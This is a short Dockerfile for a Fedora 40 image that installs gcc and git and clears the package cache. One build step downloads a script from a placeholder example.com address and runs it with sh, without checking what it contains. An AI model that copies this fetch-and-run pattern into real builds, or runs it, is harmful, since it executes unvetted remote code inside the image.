FROM fedora:40
RUN dnf install -y gcc
RUN curl -o /opt/t.sh https://example.com/t.sh && sh /opt/t.sh
RUN rm -rf /var/cache/*
RUN dnf install -y git
